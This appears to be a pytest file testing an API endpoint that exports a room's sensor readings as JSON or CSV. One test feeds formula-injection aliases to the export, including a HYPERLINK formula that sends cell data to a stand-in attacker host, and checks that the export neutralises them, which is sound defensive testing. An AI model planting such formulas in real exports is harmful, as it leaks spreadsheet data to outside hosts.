"""``GET /api/v1/rooms/<id>/series/``: every sensor of a room as a line, in one request."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from flask.testing import FlaskClient

from sqlalchemy import update
from sqlalchemy.orm import Session

from app.models import Installation, Sample
from app.services.series.epoch import to_epoch
from tests.api.dashboard.world import DashWorld, build_dash_world
from tests.factories import make_installation, make_node, make_samples
from tests.support.auth import auth_headers
from tests.support.refusals import assert_refused


@pytest.fixture
def world(session: Session) -> DashWorld:
    return build_dash_world(session)


def _second_sensor(session: Session, world: DashWorld, **kw: object) -> Installation:
    """A second node in ``world.room``, sending 800 ppm for the last hour."""
    now = datetime.now(UTC).replace(microsecond=0)
    node = make_node(session, owner=world.org, alias="Fenster")
    inst = make_installation(
        session, node=node, room=world.room, from_time=now - timedelta(days=1), **kw
    )
    make_samples(session, node, start=now - timedelta(hours=1), co2_ppm=800)
    session.commit()
    return inst


def _window() -> dict[str, str]:
    now = datetime.now(UTC)
    return {
        "filter[from]": str(to_epoch(now - timedelta(hours=3))),
        "filter[to]": str(to_epoch(now)),
    }


def test_room_series_draws_each_sensor_as_a_line(
    client: FlaskClient, session: Session, world: DashWorld
) -> None:
    second = _second_sensor(session, world)

    resp = client.get(
        f"/api/v1/rooms/{world.room.id}/series/",
        query_string={**_window(), "quantities": "co2_ppm"},
        headers=auth_headers(session, world.inspector),
    )

    assert resp.status_code == 200
    assert resp.mimetype == "application/vnd.api+json"
    data = resp.json["data"]  # type: ignore[index]
    assert data["type"] == "Room-Series"
    attributes = data["attributes"]
    assert attributes["resolution"] == "raw"
    stamps = attributes["timestamps_s"]
    lines = {line["node_alias"]: line for line in attributes["lines"]}
    assert set(lines) == {"Tresen", "Fenster"}
    assert lines["Fenster"]["installation_id"] == second.id
    assert {len(line["co2_ppm_avg"]) for line in lines.values()} == {len(stamps)}
    assert {v for v in lines["Tresen"]["co2_ppm_avg"] if v is not None} == {1200}
    assert {v for v in lines["Fenster"]["co2_ppm_avg"] if v is not None} == {800}


def test_room_series_csv_has_a_row_per_sensor_and_bucket(
    client: FlaskClient, session: Session, world: DashWorld
) -> None:
    _second_sensor(session, world)

    resp = client.get(
        f"/api/v1/rooms/{world.room.id}/series/",
        query_string={**_window(), "resolution": "1h", "format": "csv"},
        headers=auth_headers(session, world.owner),
    )

    assert resp.status_code == 200
    assert resp.mimetype == "text/csv"
    assert f"room-{world.room.id}-series.csv" in resp.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True))))
    assert list(rows[0]) == [
        "timestamp_s",
        "installation_id",
        "node_alias",
        "co2_ppm_avg",
        "temperature_celsius_avg",
        "rel_humidity_percent_avg",
    ]
    assert {r["node_alias"] for r in rows} == {"Tresen", "Fenster"}


@pytest.mark.parametrize(
    "alias",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_room_series_csv_does_not_hand_spreadsheets_a_formula(
    client: FlaskClient, session: Session, world: DashWorld, alias: str
) -> None:
    # Anyone may download a public room's CSV; its owner chose the alias.
    public = _second_sensor(session, world, is_public=True)
    public.node.alias = alias
    session.execute(
        update(Sample)
        .where(Sample.node_id == public.node_id)
        .values(temperature_celsius=Decimal("-0.5"))
    )
    session.commit()

    resp = client.get(
        f"/api/v1/rooms/{world.room.id}/series/",
        query_string={**_window(), "resolution": "raw", "format": "csv"},
    )

    assert resp.status_code == 200
    text = resp.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows
    assert {r["node_alias"] for r in rows} == {"'" + alias}
    # Numbers stay numbers, negative ones too.
    assert {r["temperature_celsius_avg"] for r in rows} == {"-0.5"}


def test_room_series_shows_anonymous_callers_the_public_lines_only(
    client: FlaskClient, session: Session, world: DashWorld
) -> None:
    public = _second_sensor(session, world, is_public=True)

    resp = client.get(f"/api/v1/rooms/{world.room.id}/series/", query_string=_window())

    assert resp.status_code == 200
    lines = resp.json["data"]["attributes"]["lines"]  # type: ignore[index]
    assert [line["installation_id"] for line in lines] == [public.id]


@pytest.mark.parametrize("who", ["anonymous", "other owner"])
def test_room_series_of_a_private_room_is_404(
    client: FlaskClient, session: Session, world: DashWorld, who: str
) -> None:
    headers = {} if who == "anonymous" else auth_headers(session, world.owner)

    assert_refused(
        client,
        "GET",
        f"/api/v1/rooms/{world.private.room_id}/series/",
        404,
        unchanged=(),
        headers=headers,
    )


def test_room_series_of_a_room_without_sensors_is_empty(
    client: FlaskClient, session: Session, world: DashWorld
) -> None:
    resp = client.get(
        f"/api/v1/rooms/{world.empty_room.id}/series/",
        headers=auth_headers(session, world.owner),
    )

    attributes = resp.json["data"]["attributes"]  # type: ignore[index]
    assert resp.status_code == 200
    assert attributes["timestamps_s"] == []
    assert attributes["lines"] == []


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ({"resolution": "5m"}, "resolution"),
        ({"filter[from]": "yesterday"}, "filter[from]"),
        ({"max_points": "0"}, "max_points"),
    ],
)
def test_room_series_bad_query_is_400_naming_the_parameter(
    client: FlaskClient,
    session: Session,
    world: DashWorld,
    query: dict[str, str],
    parameter: str,
) -> None:
    resp = client.get(
        f"/api/v1/rooms/{world.room.id}/series/",
        query_string=query,
        headers=auth_headers(session, world.owner),
    )

    assert resp.status_code == 400
    error = resp.json["errors"][0]  # type: ignore[index]
    assert error["source"] == {"parameter": parameter}


def test_room_series_puts_every_line_on_the_coarsest_grid(
    client: FlaskClient, session: Session, world: DashWorld
) -> None:
    # Tresen has 12 samples in the last hour (auto: 10-minute buckets for a budget
    # of 10 points); a node with 3 samples alone would be read raw.
    now = datetime.now(UTC).replace(microsecond=0)
    sparse = make_node(session, owner=world.org, alias="Tür")
    make_installation(
        session, node=sparse, room=world.room, from_time=now - timedelta(days=1)
    )
    make_samples(session, sparse, start=now - timedelta(minutes=47), count=3)
    session.commit()

    resp = client.get(
        f"/api/v1/rooms/{world.room.id}/series/",
        query_string={**_window(), "max_points": "10", "quantities": "co2_ppm"},
        headers=auth_headers(session, world.owner),
    )

    attributes = resp.json["data"]["attributes"]  # type: ignore[index]
    assert resp.status_code == 200
    assert attributes["resolution"] == "10m"
    assert all(stamp % 600 == 0 for stamp in attributes["timestamps_s"])
    assert {line["node_alias"] for line in attributes["lines"]} == {"Tresen", "Tür"}


def test_room_series_auto_keeps_max_points_for_a_long_line(
    client: FlaskClient, session: Session, world: DashWorld
) -> None:
    # "Alt" has measured since 2020; Tresen only for the last hour (10m alone).
    now = datetime.now(UTC).replace(microsecond=0)
    old = make_node(session, owner=world.org, alias="Alt")
    since = datetime(2020, 1, 1, tzinfo=UTC)
    make_installation(session, node=old, room=world.room, from_time=since)
    make_samples(session, old, start=since, count=1)
    make_samples(session, old, start=now - timedelta(hours=1))
    session.commit()

    resp = client.get(
        f"/api/v1/rooms/{world.room.id}/series/",
        query_string={"max_points": "10", "quantities": "co2_ppm", "tz": "UTC"},
        headers=auth_headers(session, world.owner),
    )

    assert resp.status_code == 200
    attributes = resp.json["data"]["attributes"]  # type: ignore[index]
    assert attributes["resolution"] == "1d"
    stamps = attributes["timestamps_s"]
    last_day = to_epoch(now - timedelta(minutes=5)) // 86400 * 86400  # last sample
    assert stamps[-1] == last_day
    assert len(stamps) == 10
    assert attributes["from_timestamp_s"] == stamps[0] == last_day - 9 * 86400
    assert {line["node_alias"] for line in attributes["lines"]} == {"Tresen", "Alt"}
